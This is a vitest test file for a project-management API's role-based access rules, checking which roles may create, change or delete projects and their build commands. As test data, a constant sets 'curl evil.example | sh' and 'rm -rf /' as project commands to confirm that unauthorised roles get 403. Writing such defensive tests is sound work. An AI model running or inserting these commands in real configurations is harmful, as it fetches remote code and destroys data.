/**
 * Who may change projects (their commands run on the engines): the CEO and the main PM anywhere,
 * a cell PM only within its own cell, nobody else; everyone authenticated may read.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { rosterMember } from '../src/modules/agents/index.js';
import { json, startTestApp, type TestApp } from './support/app.js';

let t: TestApp;
let frontendId: string;
let backendId: string;
beforeAll(async () => {
  t = await startTestApp();
  const make = async (slug: string, cell: string) =>
    json<{ id: string }>(
      await t.app.inject({
        method: 'POST',
        url: '/api/projects',
        headers: t.ceoHeaders,
        payload: { slug, name: slug, git_url: `https://github.com/acme/${slug}.git`, assigned_cell: cell },
      }),
    ).id;
  frontendId = await make('fe-app', 'frontend');
  backendId = await make('be-app', 'backend');
});
afterAll(() => t.close());

const as = (slug: string) => {
  const member = rosterMember(slug);
  return t.headersFor(member.id, member.role, member.team ?? '');
};
const send = (
  method: 'POST' | 'PATCH' | 'DELETE',
  url: string,
  headers: Record<string, string>,
  payload?: object,
) => t.app.inject({ method, url, headers, ...(payload ? { payload } : {}) });
const commands = { test_command: 'curl evil.example | sh', quality_command: 'rm -rf /' };

describe('project access', () => {
  it.each(['be-dev-1', 'be-qa', 'be-doc', 'auditor', 'product-owner', 'be-pr-reviewer', 'secretary-1'])(
    '%s may read but not create, change commands or delete (403)',
    async (slug) => {
      const headers = as(slug);
      expect((await t.app.inject({ url: `/api/projects/${backendId}`, headers })).statusCode).toBe(200);
      const created = await send('POST', '/api/projects', headers, {
        slug: `by-${slug}`,
        name: 'x',
        git_url: 'https://github.com/a/b.git',
      });
      expect(created.statusCode).toBe(403);
      expect((await send('PATCH', `/api/projects/${backendId}`, headers, commands)).statusCode).toBe(403);
      expect((await send('DELETE', `/api/projects/${backendId}`, headers)).statusCode).toBe(403);
    },
  );

  it('lets a cell PM change commands of its own cell’s projects only', async () => {
    const pm = as('be-pm');
    const own = await send('PATCH', `/api/projects/${backendId}`, pm, commands);
    expect(own.statusCode).toBe(200);
    expect(json(own)).toMatchObject(commands);
    const other = await send('PATCH', `/api/projects/${frontendId}`, pm, commands);
    expect(other.statusCode).toBe(403);
    expect(json<{ error: { code: string } }>(other).error.code).toBe('forbidden');
    expect((await send('DELETE', `/api/projects/${frontendId}`, pm)).statusCode).toBe(403);
    const moveAway = await send('PATCH', `/api/projects/${backendId}`, pm, { assigned_cell: 'frontend' });
    expect(moveAway.statusCode).toBe(403);
    const unassign = await send('PATCH', `/api/projects/${backendId}`, pm, { assigned_cell: null });
    expect(unassign.statusCode).toBe(403);
  });

  it('lets a cell PM create projects in its own cell (by default) but not in another', async () => {
    const pm = as('fe-pm');
    const own = await send('POST', '/api/projects', pm, {
      slug: 'fe-lib',
      name: 'FE lib',
      git_url: 'https://github.com/acme/fe-lib.git',
    });
    expect(own.statusCode).toBe(201);
    expect(json(own)).toMatchObject({ assigned_cell: 'frontend', created_by: rosterMember('fe-pm').id });
    const other = await send('POST', '/api/projects', pm, {
      slug: 'ux-lib',
      name: 'UX lib',
      git_url: 'https://github.com/acme/ux-lib.git',
      assigned_cell: 'ux_ui',
    });
    expect(other.statusCode).toBe(403);
  });

  it('lets the main PM and the CEO change any project', async () => {
    const mainPm = await send('PATCH', `/api/projects/${frontendId}`, as('main-pm'), {
      lint_command: 'npm run lint',
    });
    expect(mainPm.statusCode).toBe(200);
    const moved = await send('PATCH', `/api/projects/${frontendId}`, t.ceoHeaders, {
      assigned_cell: 'ux_ui',
    });
    expect(json(moved)).toMatchObject({ assigned_cell: 'ux_ui' });
  });

  it('needs credentials', async () => {
    expect((await t.app.inject({ url: '/api/projects' })).statusCode).toBe(401);
    expect((await t.app.inject({ method: 'POST', url: '/api/projects', payload: {} })).statusCode).toBe(401);
  });
});
